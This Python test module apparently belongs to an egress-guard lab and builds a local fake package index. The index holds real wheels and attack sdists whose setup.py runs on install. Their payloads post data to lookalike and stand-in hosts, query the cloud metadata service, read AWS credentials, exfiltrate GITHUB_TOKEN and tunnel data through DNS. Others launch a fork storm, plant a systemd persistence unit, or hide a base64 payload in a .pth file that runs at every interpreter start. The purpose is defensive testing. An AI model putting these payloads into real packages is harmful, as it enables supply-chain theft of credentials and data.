"""Real packages for the lab index: downloaded wheels, and attack sdists and wheels built here.

Each attack is what pip installs for real: an sdist whose setup.py runs its payload when pip
builds it, or a wheel that drops a .pth file which runs at every later interpreter start.
"""

from __future__ import annotations

import base64
import hashlib
import html
import io
import re
import subprocess
import sys
import tarfile
import textwrap
import zipfile
from pathlib import Path

from tests.lab.netlab import RAW_IP

WHEELS = Path(__file__).with_name("wheels.txt")

_UPLOAD = """
import http.client, os, ssl
def upload(host, size, path="/upload", method="POST", tls=True, port=None):
    body = os.urandom(size)
    if tls:
        conn = http.client.HTTPSConnection(host, port or 443, timeout=20,
                                           context=ssl.create_default_context())
    else:
        conn = http.client.HTTPConnection(host, port or 80, timeout=20)
    conn.request(method, path, body=body, headers={"Content-Type": "application/octet-stream",
                                                    "X-Filename": "tpcp.tar.gz"})
    conn.getresponse().read()
    conn.close()
"""

ATTACKS = {
    # An install-time HTTPS POST of 256 KB of random bytes to a lookalike of the file CDN.
    "lookalike-post": 'upload("files.pythonhosted-cdn.org", 256 * 1024)',
    # Many small POSTs to a host on no list: each is small, together they are an upload.
    "many-posts": 'for _ in range(40): upload("telemetry.example-unknown.net", 3000)',
    # The Telnyx shape: fetch a second stage from a bare address, collect, then upload in clear.
    "raw-ip": textwrap.dedent(f'''
        import time, urllib.request
        try:
            urllib.request.urlopen("http://{RAW_IP}:8080/ringtone.wav", timeout=5).read()
        except OSError:
            pass
        time.sleep(0.3)  # decoding the stage and collecting files takes a moment
        upload("{RAW_IP}", 64 * 1024, tls=False, port=8080)
    '''),
    # 8 MB to the allowlisted index itself: allowed host, above its upload limit.
    "index-upload": 'upload("files.pythonhosted.org", 8 * 1024 * 1024, method="PUT")',
    # The Shai-Hulud/LiteLLM move: ask the instance-metadata service for role credentials.
    "metadata": textwrap.dedent("""
        import urllib.request
        try:
            urllib.request.urlopen(
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=5
            ).read()
        except OSError:
            pass
    """),
    # A stolen key posted in cleartext to a host on no list.
    "cleartext-key": textwrap.dedent("""
        import http.client
        conn = http.client.HTTPConnection("telemetry.example-unknown.net", 80, timeout=10)
        conn.request("POST", "/c", body=b"aws_access_key_id=AKIAIOSFODNN7EXAMPLE&x=1")
        conn.getresponse().read()
    """),
    # A fork storm, bounded so the test machine survives: 800 sleepers, as fast as possible.
    "storm": textwrap.dedent("""
        import os, subprocess, time
        marker = os.path.join(os.environ.get("HOME", "/tmp"), "storm-started")
        with open(marker, "w") as handle:
            handle.write(repr(time.time()))
        children = []
        for _ in range(800):
            children.append(subprocess.Popen(["sleep", "20"]))
        for child in children:
            child.wait()
    """),
    # Persistence: a systemd user unit, as the LiteLLM payload's sysmon.service.
    "persistence": textwrap.dedent("""
        import os
        units = os.path.join(os.environ["HOME"], ".config", "systemd", "user")
        os.makedirs(units, exist_ok=True)
        with open(os.path.join(units, "egl-sysmon.service"), "w") as handle:
            handle.write("[Service]\\nExecStart=/usr/bin/true\\nRestart=always\\n")
    """),
    # The stealer's first move: read the cloud credentials file.
    "credential-read": textwrap.dedent("""
        import os
        with open(os.path.join(os.environ["HOME"], ".aws", "credentials")) as handle:
            handle.read()
    """),
    # printenv-style theft: the environment's tokens, base64-encoded, to a host on no list.
    "env-post": textwrap.dedent("""
        import base64, http.client, os
        loot = base64.b64encode(os.environ.get("GITHUB_TOKEN", "none").encode())
        conn = http.client.HTTPConnection("telemetry.example-unknown.net", 80, timeout=10)
        conn.request("POST", "/env", body=b"d=" + loot)
        conn.getresponse().read()
    """),
    # Data smuggled out in DNS query names, hex-encoded, one chunk per query.
    "dns-hex": textwrap.dedent("""
        import os, socket, time
        secret = os.urandom(200).hex()
        for i in range(0, len(secret), 40):
            try:
                socket.getaddrinfo(f"{secret[i:i + 40]}.{i}.x.exfil-lab.net", 443)
            except OSError:
                pass
            time.sleep(0.05)
    """),
}

# The .pth payload, as litellm 1.82.8 shipped it: the .pth line starts a new interpreter with a
# base64 payload. That payload double-forks so the uploader is nobody's child, waits for the
# interpreter that fired the .pth to exit, then uploads 256 KB to a brand-plus-word lookalike.
PTH_PAYLOAD = _UPLOAD + textwrap.dedent("""
    import os, sys, time
    starter = int(sys.argv[1])
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(100):
                try:
                    os.kill(starter, 0)
                except ProcessLookupError:
                    break
                time.sleep(0.05)
            time.sleep(0.5)
            try:
                upload("models.litellm-ai.cloud", 256 * 1024)
            finally:
                os._exit(0)
    os._exit(0)
""")


def pth_line() -> str:
    """One line site.py executes; the guard variable stops the recursion that froze machines."""
    encoded = base64.b64encode(PTH_PAYLOAD.encode()).decode()
    return (
        "import os, subprocess, sys; os.environ.get('EGL_PTH_FIRED') or "
        "(os.environ.__setitem__('EGL_PTH_FIRED', '1'), subprocess.Popen([sys.executable, '-c', "
        f"\"import base64; exec(base64.b64decode('{encoded}'))\", str(os.getpid())]))\n"
    )


def download_wheels(target: Path) -> list[Path]:
    """The real wheels of wheels.txt, fetched once per machine with their hashes checked."""
    target.mkdir(parents=True, exist_ok=True)
    wanted = [
        line.split()[0]
        for line in WHEELS.read_text().splitlines()
        if line.strip() and not line.startswith("#")
    ]
    have = list(target.glob("*.whl"))
    if len(have) < len(wanted):
        subprocess.run(
            [
                sys.executable,
                "-m",
                "pip",
                "download",
                "--no-deps",
                "--only-binary=:all:",
                "--require-hashes",
                "--disable-pip-version-check",
                "-r",
                str(WHEELS),
                "-d",
                str(target),
            ],
            check=True,
            capture_output=True,
            timeout=600,
        )
    return sorted(target.glob("*.whl"))


def attack_sdist(name: str, payload: str, out: Path) -> Path:
    project = f"egl-{name}"
    base = f"{project.replace('-', '_')}-1.0"
    setup = (
        _UPLOAD
        + payload
        + f"\nfrom setuptools import setup\nsetup(name={project!r}, version='1.0')\n"
    )
    pkg_info = f"Metadata-Version: 2.1\nName: {project}\nVersion: 1.0\n"
    path = out / f"{base}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for member, text in (("setup.py", setup), ("PKG-INFO", pkg_info)):
            data = text.encode()
            info = tarfile.TarInfo(f"{base}/{member}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def pth_wheel(out: Path) -> Path:
    """A wheel that installs egl_pth_init.pth, the shape of litellm 1.82.8's litellm_init.pth."""
    dist = "egl_pth-1.0.dist-info"
    files = {
        "egl_pth_init.pth": pth_line(),
        f"{dist}/METADATA": "Metadata-Version: 2.1\nName: egl-pth\nVersion: 1.0\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: egressguard-lab\nRoot-Is-Purelib: true\n"
        "Tag: py3-none-any\n",
    }
    record = []
    for member, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record.append(f"{member},sha256={digest.decode()},{len(text.encode())}")
    record.append(f"{dist}/RECORD,,")
    files[f"{dist}/RECORD"] = "\n".join(record) + "\n"
    path = out / "egl_pth-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for member, text in files.items():
            archive.writestr(member, text)
    return path


def build_index(root: Path, files: list[Path]) -> None:
    """A PEP 503 simple index on pypi.org whose links point at files.pythonhosted.org."""
    simple = root / "pypi.org" / "simple"
    packages = root / "files.pythonhosted.org" / "packages"
    packages.mkdir(parents=True, exist_ok=True)
    by_project: dict[str, list[Path]] = {}
    for file in files:
        (packages / file.name).write_bytes(file.read_bytes())
        by_project.setdefault(_project(file.name), []).append(file)
    for project, project_files in by_project.items():
        folder = simple / project
        folder.mkdir(parents=True, exist_ok=True)
        links = "".join(
            f'<a href="https://files.pythonhosted.org/packages/{html.escape(f.name)}'
            f'#sha256={hashlib.sha256(f.read_bytes()).hexdigest()}">{html.escape(f.name)}</a>\n'
            for f in project_files
        )
        (folder / "index.html").write_text(f"<!DOCTYPE html><html><body>\n{links}</body></html>\n")
    listing = "".join(f'<a href="{p}/">{p}</a>\n' for p in sorted(by_project))
    (simple / "index.html").write_text(f"<!DOCTYPE html><html><body>\n{listing}</body></html>\n")


def _project(filename: str) -> str:
    name = re.split(r"-\d", filename, maxsplit=1)[0]
    return re.sub(r"[-_.]+", "-", name).lower()


def build_world(root: Path, wheel_cache: Path) -> tuple[Path, Path, Path, Path]:
    """Certificates and a package index with the real wheels and every attack package:
    (ca certificate, server certificate, server key, web root)."""
    from tests.lab.certs import make_certs
    from tests.lab.netlab import TLS_NAMES

    ca, cert, key = make_certs(root / "tls", TLS_NAMES, [RAW_IP])
    wheels = download_wheels(wheel_cache)
    dist = root / "dist"
    dist.mkdir()
    attacks = [attack_sdist(name, payload, dist) for name, payload in ATTACKS.items()]
    build_index(root / "www", [*wheels, *attacks, pth_wheel(dist)])
    (root / "www" / "mirror.corp-pkgs.test").symlink_to("pypi.org")
    return ca, cert, key, root / "www"
